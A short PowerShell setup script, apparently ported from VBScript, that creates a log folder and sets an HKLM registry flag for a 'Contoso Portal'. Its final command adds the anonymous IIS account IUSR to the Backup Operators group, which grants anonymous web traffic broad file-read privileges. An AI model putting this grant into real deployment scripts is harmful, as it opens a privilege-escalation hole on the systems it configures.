# Taken over from a VBScript, line by line.
$shell = New-Object -ComObject WScript.Shell
$log = $shell.ExpandEnvironmentStrings('%SystemDrive%\Logs')
$null = $shell.Run("cmd /c if not exist $log mkdir $log", 0, $true)
$shell.RegWrite('HKLM\SOFTWARE\Contoso\Portal\Prepared', 1, 'REG_DWORD')
$code = $shell.Run('net localgroup "Backup Operators" IUSR /add', 0, $true)
Write-Output "net gave $code"
